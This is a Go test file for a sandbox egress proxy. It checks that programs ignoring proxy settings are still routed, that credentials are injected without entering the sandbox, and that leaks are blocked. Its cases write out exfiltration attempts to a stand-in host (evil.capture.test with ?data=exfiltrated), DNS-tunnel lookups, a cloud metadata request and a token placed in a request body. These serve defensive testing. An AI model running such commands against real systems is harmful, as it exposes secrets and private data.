package bottle

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/bot-bottle/bottle/internal/journal"
	"github.com/bot-bottle/bottle/mitm"
	"github.com/bot-bottle/bottle/proxy"
	"github.com/bot-bottle/bottle/vm"
	"github.com/bot-bottle/bottle/vm/sandbox"
)

// captureRig is a bottle whose programs are told of no proxy, and the internet
// beside it.
type captureRig struct {
	t       *testing.T
	project *project
	bottle  *Bottle
	token   string // the credential, which is nowhere in the bottle

	dialed atomic.Int64 // how often the host's resolver was asked

	mu  sync.Mutex
	got []*http.Request
}

const captureManifest = `
capture: %[5]s
env: {TOKEN: "${secret:token}"}
secrets: {token: {from: {file: ./token}, inject: bearer}}
host_services: [{name: db, port: %[4]s}]
egress:
  upstream_ca: [./internet.pem]
  routes:
    - {host: api.capture.test, upstream: %[1]q, private: true, secrets: [token]}
    - {host: git.capture.test, upstream: %[1]q, private: true, secrets: [token]}
    - {host: pass.capture.test, upstream: %[1]q, private: true, tls: passthrough}
    - {host: plain.capture.test, upstream: %[2]q, private: true}
    - {host: raw.capture.test, ports: [7000], upstream: %[3]q, private: true, tls: raw}
    - {host: "*.lookup.capture.test"}
`

// newCaptureRig needs the programs, of which it builds goget; capture says what the manifest says of it.
func newCaptureRig(t *testing.T, capture string, programs ...string) *captureRig {
	t.Helper()
	r := &captureRig{t: t, project: newProject(t), token: "tk" + "_" + strings.Repeat("q7Zr2", 6)}
	p := r.project
	for _, name := range programs {
		if name == "goget" {
			p.buildGo(name, goGet)
		} else {
			systemProgram(t, name)
		}
	}
	p.write("token", r.token+"\n", 0o600)
	plain := httptest.NewServer(r)
	t.Cleanup(plain.Close)
	echo := startEcho(t)
	_, port, _ := net.SplitHostPort(echo)
	m := p.trusted(fmt.Sprintf(captureManifest, r.startInternet(), plain.Listener.Addr(), echo, port, capture))
	opt := p.options(m, sandbox.New(sandbox.Options{}))
	opt.Resolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		r.dialed.Add(1)
		return nil, errors.New("there is no resolver in this test")
	}}
	prepared, err := Prepare(t.Context(), opt)
	if err != nil {
		t.Fatal(err)
	}
	if r.bottle, err = prepared.Launch(t.Context()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := r.bottle.Close(); err != nil {
			t.Error(err)
		}
	})
	return r
}

// systemProgram returns the path of a program in a folder of the system: a bottle has
// no others without a mount.
func systemProgram(t *testing.T, name string) string {
	t.Helper()
	for _, dir := range []string{"/usr/bin", "/usr/local/bin", "/bin"} {
		if path := filepath.Join(dir, name); exec.Command(path, "--version").Run() == nil || exec.Command(path, "-v").Run() == nil {
			return path
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatalf("%s is not installed in a folder of the system", name)
	}
	t.Skipf("%s is not installed in a folder of the system", name)
	return ""
}

// startInternet serves TLS for whatever name is asked for.
func (r *captureRig) startInternet() string {
	r.t.Helper()
	ca, err := mitm.NewAuthority(mitm.Options{Name: "internet of a test"})
	if err != nil {
		r.t.Fatal(err)
	}
	leaves, err := mitm.NewMinter(ca, mitm.MinterOptions{})
	if err != nil {
		r.t.Fatal(err)
	}
	r.project.write("internet.pem", string(ca.CertificatePEM()), 0o600)
	srv := httptest.NewUnstartedServer(r)
	srv.TLS = leaves.TLSConfig(func(h *tls.ClientHelloInfo) (string, error) { return h.ServerName, nil })
	srv.StartTLS()
	r.t.Cleanup(srv.Close)
	return srv.Listener.Addr().String()
}

// startEcho serves a protocol of its own on the host: it greets, and says what it
// was told.
func startEcho(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				fmt.Fprint(c, "hello\n")
				_, _ = io.Copy(c, c)
			}()
		}
	}()
	return l.Addr().String()
}

// ServeHTTP is the internet: a git server for one name, else one that repeats the
// credential that it got.
func (r *captureRig) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	r.mu.Lock()
	r.got = append(r.got, req)
	r.mu.Unlock()
	if strings.HasPrefix(req.URL.Path, "/open.git/") || strings.HasPrefix(req.URL.Path, "/private.git/") && req.Header.Get("Authorization") == "Bearer "+r.token {
		core, _ := exec.Command("git", "--exec-path").Output()
		(&cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(core)), "git-http-backend"),
			Env: []string{"GIT_PROJECT_ROOT=" + r.project.path("repos"), "GIT_HTTP_EXPORT_ALL=1"}, Stderr: io.Discard}).ServeHTTP(w, req)
		return
	}
	if strings.HasPrefix(req.URL.Path, "/private.git/") {
		http.Error(w, "who are you?", http.StatusForbidden)
		return
	}
	fmt.Fprintf(w, "host=%s auth=%s", req.Host, req.Header.Get("Authorization"))
}

// last is the newest request that reached the internet, for a host.
func (r *captureRig) last(host string) *http.Request {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := range r.got {
		if q := r.got[len(r.got)-1-i]; q.Host == host {
			return q
		}
	}
	return nil
}

// noProxy are the variables that would tell a program of the proxy.
var noProxy = []string{"HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy", "NODE_USE_ENV_PROXY", "NO_PROXY", "no_proxy"}

// run runs a program inside that is told of no proxy, and returns its exit code and
// all that it wrote.
func (r *captureRig) run(args ...string) (int, string) {
	r.t.Helper()
	command := []string{"env"}
	for _, name := range noProxy {
		command = append(command, "-u", name)
	}
	var out bytes.Buffer
	p, err := r.bottle.Start(r.t.Context(), vm.Command{Args: append(command, args...), Stdout: &out, Stderr: &out})
	if err != nil {
		r.t.Fatal(err)
	}
	code, err := p.Wait()
	if err != nil {
		r.t.Fatal(err)
	}
	if text := out.String(); strings.Contains(text, r.token) {
		r.t.Errorf("the credential is in the bottle: %s", text)
	}
	return code, out.String()
}

// events ends the bottle and returns what its journal says of requests.
func (r *captureRig) events() (events []proxy.Event) {
	r.t.Helper()
	if err := r.bottle.Close(); err != nil {
		r.t.Fatal(err)
	}
	for e, err := range journal.Read(r.bottle.JournalDir(), journal.Filter{}) {
		if err != nil {
			r.t.Fatal(err)
		}
		if e.Type != proxy.EventNote {
			events = append(events, e.Event)
		}
	}
	return events
}

const pythonGet = `
import socket, ssl, sys, os
host, path, token = sys.argv[1], sys.argv[2], os.environ["TOKEN"] if len(sys.argv) > 3 else ""
s = socket.create_connection((host, 443), timeout=30)
s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (path, host, "Authorization: Bearer %s\r\n" % token if token else "")).encode())
answer = b""
while True:
    b = s.recv(4096)
    if not b: break
    answer += b
print(answer.decode())
`

const nodeGet = `
const headers = process.argv[2] ? {Authorization: "Bearer " + process.env.TOKEN} : {};
const r = await fetch(process.argv[1], {headers});
console.log("HTTP", r.status, await r.text());
`

// goGet has a Transport of its own, as many SDKs have, so the variables are not read.
const goGet = `package main

import (
	"net/http"
	"os"
)

func main() {
	q, err := http.NewRequest("GET", os.Args[1], nil)
	if err != nil {
		panic(err)
	}
	if len(os.Args) > 2 {
		q.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))
	}
	resp, err := (&http.Client{Transport: &http.Transport{ForceAttemptHTTP2: true}}).Do(q)
	if err != nil {
		panic(err)
	}
	_ = resp.Write(os.Stdout)
}
`

// buildGo builds a program into the project, so that it is in the bottle.
func (p *project) buildGo(name, source string) {
	p.t.Helper()
	dir := p.t.TempDir()
	file := filepath.Join(dir, "main.go")
	if err := os.WriteFile(file, []byte(source), 0o600); err != nil {
		p.t.Fatal(err)
	}
	cmd := exec.Command("go", "build", "-o", p.path("work/"+name), file)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		p.t.Fatalf("%v: %s", err, out)
	}
}

// Programs that heed no proxy variables are gated and helped all the same.
func TestProgramsThatKnowNoProxyAreCaptured(t *testing.T) {
	r := newCaptureRig(t, "true", "curl", "goget", "node", "python3")
	get := map[string]func(url string, auth ...string) []string{
		"curl": func(url string, auth ...string) []string {
			if len(auth) > 0 {
				return []string{"sh", "-c", `exec curl --noproxy '*' -sS -i --max-time 60 -H "Authorization: Bearer $TOKEN" "$0"`, url}
			}
			return []string{"curl", "--noproxy", "*", "-sS", "-i", "--max-time", "60", url}
		},
		"go": func(url string, auth ...string) []string { return append([]string{"./goget", url}, auth...) },
		"node": func(url string, auth ...string) []string {
			return append([]string{"node", "--input-type=module", "-e", nodeGet, "--", url}, auth...)
		},
		"python": func(url string, auth ...string) []string {
			host, path, _ := strings.Cut(strings.TrimPrefix(url, "https://"), "/")
			return append([]string{systemProgram(t, "python3"), "-c", pythonGet, host, "/" + path}, auth...)
		},
	}
	for name, command := range get {
		t.Run(name, func(t *testing.T) {
			path := "/" + name
			if code, out := r.run(command("https://api.capture.test" + path)...); code != 0 || !strings.Contains(out, " 200 ") || !strings.Contains(out, "host=api.capture.test auth=") {
				t.Errorf("allowed: code %d, %s", code, out)
			}
			if q := r.last("api.capture.test"); q == nil || q.URL.Path != path || q.Header.Get("Authorization") != "" {
				t.Errorf("the server got %+v", q)
			}
			code, out := r.run(command("https://evil.capture.test/?data=exfiltrated")...)
			if !strings.Contains(out, " 403 ") || !strings.Contains(out, "no route allows evil.capture.test:443") {
				t.Errorf("denied: code %d, %s", code, out)
			}
			if q := r.last("evil.capture.test"); q != nil {
				t.Errorf("the denied host got %+v", q)
			}
			if code, out := r.run(command("https://api.capture.test"+path+"/me", "auth")...); code != 0 || !strings.Contains(out, "auth=Bearer ") {
				t.Errorf("with a credential: code %d, %s", code, out)
			}
			if q := r.last("api.capture.test"); q == nil || q.Header.Get("Authorization") != "Bearer "+r.token {
				t.Errorf("the server got %+v", q)
			}
		})
	}
	for _, e := range r.events() {
		if e.Host == "evil.capture.test" && (e.Verdict != proxy.Deny || e.Type != proxy.EventDecision) || strings.Contains(fmt.Sprint(e), r.token) {
			t.Errorf("the journal has %+v", e)
		}
	}
	if r.dialed.Load() > 0 {
		t.Error("a resolver was asked")
	}
}

func TestCapturedGit(t *testing.T) {
	r := newCaptureRig(t, "true", "git")
	for _, repo := range []string{"open.git", "private.git"} {
		dir := r.project.path("repos/" + repo)
		for _, args := range [][]string{{"init", "-q", "--bare", dir}, {"-C", dir, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit-tree", "-m", "first", "4b825dc642cb6eb9a060e54bf8d69288fbee4904"}} {
			if args[0] == "-C" { // the empty tree must be there
				if out, err := exec.Command("git", "-C", dir, "mktree").CombinedOutput(); err != nil {
					t.Fatalf("%v: %s", err, out)
				}
			}
			out, err := exec.Command("git", args...).CombinedOutput()
			if err != nil {
				t.Fatalf("git %v: %v: %s", args, err, out)
			}
			if args[0] == "-C" {
				if out, err := exec.Command("git", "-C", dir, "update-ref", "HEAD", strings.TrimSpace(string(out))).CombinedOutput(); err != nil {
					t.Fatalf("%v: %s", err, out)
				}
			}
		}
	}
	if code, out := r.run("git", "clone", "https://git.capture.test/open.git", "/tmp/open"); code != 0 {
		t.Errorf("allowed: code %d, %s", code, out)
	}
	if code, out := r.run("git", "-C", "/tmp/open", "log", "--format=%s"); code != 0 || out != "first\n" {
		t.Errorf("it has the commits %q", out)
	}
	if code, out := r.run("git", "clone", "https://evil.capture.test/open.git", "/tmp/evil"); code == 0 || !strings.Contains(out, "403") {
		t.Errorf("denied: code %d, %s", code, out)
	}
	if code, out := r.run("git", "clone", "https://git.capture.test/private.git", "/tmp/private"); code == 0 {
		t.Errorf("without a credential: code %d, %s", code, out)
	}
	if code, out := r.run("sh", "-c", `exec git -c http.extraHeader="Authorization: Bearer $TOKEN" clone https://git.capture.test/private.git /tmp/private`); code != 0 {
		t.Errorf("with a credential: code %d, %s", code, out)
	}
}

func TestCapturedConnectionsOfOtherKinds(t *testing.T) {
	r := newCaptureRig(t, "true", "curl", "python3")
	python := systemProgram(t, "python3")
	curl := func(args ...string) []string {
		return append([]string{"curl", "--noproxy", "*", "-sS", "-i", "--max-time", "60"}, args...)
	}
	for _, c := range []struct {
		name string
		args []string
		code int
		want string
	}{
		{"plain http", curl("http://plain.capture.test/"), 0, "host=plain.capture.test"},
		{"plain http, denied", curl("http://evil.capture.test/"), 0, "no route allows evil.capture.test:80"},
		{"plain http for another name", curl("-H", "Host: plain.capture.test", "http://evil.capture.test/"), 0, " 403 "},
		{"passed through", curl("--cacert", guestTarget+"/"+bundleName, "https://pass.capture.test/"), 0, "host=pass.capture.test"},
		{"a credential in a body", curl("-d", "key="+"gh"+"p_"+"n3Kp8vWs2YtRq6HbZx0LmJc7DfGa4UeXo5Ti", "https://api.capture.test/"), 0, "dlp:github-token"},
		{"HTTP/1.1 and a refusal", curl("--http1.1", "https://evil.capture.test/"), 0, "HTTP/1.1 403 "},
		{"HTTP/2 and a refusal", curl("--http2", "https://evil.capture.test/"), 0, "HTTP/2 403"},
		{"an address", curl("-k", "https://192.0.2.7/"), 0, "no route allows 192.0.2.7:443"},
		{"the metadata service", curl("http://169.254.169.254/latest/meta-data/"), 0, "no route allows 169.254.169.254:80"},
		{"IPv6", curl("-g", "http://[2001:db8::7]/"), 0, "no route allows [2001:db8::7]:80"},
		{"a name at an address that is not its own", curl("--resolve", "api.capture.test:443:192.0.2.9", "https://api.capture.test/"), 0, "no route allows 192.0.2.9:443"},
		{"a port of no route", curl("https://api.capture.test:8443/"), 7, ""},
		{"the bottle itself", []string{"sh", "-c", "curl --noproxy '*' -sS http://127.0.0.1/ || echo refused"}, 0, "refused"},
		{"HTTP/3", []string{python, "-c", "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(30)\ns.connect(('api.capture.test',443))\ns.send(b'x')\ntry:\n s.recv(9)\nexcept ConnectionRefusedError: print('refused at once')"}, 0, "refused at once"},
		{"a service of the host", rawTalk("db", r.project, "ping"), 0, "hello\nping\n"},
		{"any protocol", []string{python, "-c", pythonTalk, "raw.capture.test", "7000", "ping"}, 0, "hello\nping\n"},
		{"any protocol, with a credential in it", []string{python, "-c", pythonTalk, "raw.capture.test", "7000", "gh" + "p_" + "n3Kp8vWs2YtRq6HbZx0LmJc7DfGa4UeXo5Ti"}, 0, "hello\nreset"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if code, out := r.run(c.args...); code != c.code || !strings.Contains(out, c.want) {
				t.Errorf("code %d, want %d: %s", code, c.code, out)
			}
		})
	}
}

// pythonTalk says one line and prints all that comes.
const pythonTalk = `
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30)
f = s.makefile("rw")
try:
    print(f.readline(), end="", flush=True)
    f.write(sys.argv[3] + "\n"); f.flush()
    s.shutdown(socket.SHUT_WR)
    print(f.read(), end="")
except OSError:
    print("reset")
`

// rawTalk talks to the service of the host.
func rawTalk(name string, p *project, text string) []string {
	m, err := p.read()
	if err != nil {
		p.t.Fatal(err)
	}
	return []string{systemProgram(p.t, "python3"), "-c", pythonTalk, name, fmt.Sprint(m.HostServices[0].Port), text}
}

func TestServicesOfTheHostWithoutCapture(t *testing.T) {
	r := newCaptureRig(t, "false", "curl", "python3")
	if code, out := r.run(rawTalk("db", r.project, "ping")...); code != 0 || out != "hello\nping\n" {
		t.Errorf("code %d: %s", code, out)
	}
	if code, out := r.run("curl", "--noproxy", "*", "-sS", "https://api.capture.test/"); code == 0 {
		t.Errorf("it is captured: %s", out)
	}
	if code, out := r.run("curl", "-gk", "--noproxy", "*", "-sS", "https://192.0.2.7/"); code == 0 {
		t.Errorf("it is captured: %s", out)
	}
}

// Whatever a name says, nobody outside gets to hear it by a lookup.
func TestNamesLeaveByNoQuery(t *testing.T) {
	r := newCaptureRig(t, "true", "dig", "curl")
	const data = "deadbeef0123456789"
	for _, args := range [][]string{
		{"+short", data + ".evil.capture.test"},
		{"+tcp", "+short", data + ".evil.capture.test"},
		{data + ".evil.capture.test", "TXT"},
		{data + ".evil.capture.test", "AAAA"},
		{data + ".evil.capture.test", "TYPE65"},
		{"+short", data + ".lookup.capture.test"},
		{"-x", "192.0.2.1"},
	} {
		if code, out := r.run(append([]string{"dig", "+tries=1", "+time=20"}, args...)...); code != 0 || strings.Contains(out, "timed out") {
			t.Errorf("dig %v: code %d, %s", args, code, out)
		}
	}
	// Another server than ours is not there.
	if code, out := r.run("dig", "+tries=1", "+time=20", "@8.8.8.8", data+".evil.capture.test"); code == 0 {
		t.Errorf("it answers: %s", out)
	}
	if r.dialed.Load() > 0 {
		t.Fatalf("a resolver of the host was asked %d times", r.dialed.Load())
	}
	// The resolver is the one that would have been asked.
	_, _ = r.run("curl", "--noproxy", "*", "-sS", "--max-time", "60", "https://a.lookup.capture.test/")
	if r.dialed.Load() == 0 {
		t.Error("a request to an allowed name asked no resolver either, so this test shows nothing")
	}
	for _, e := range r.events() {
		if strings.Contains(fmt.Sprint(e), data) {
			t.Errorf("the proxy was told: %+v", e)
		}
	}
}
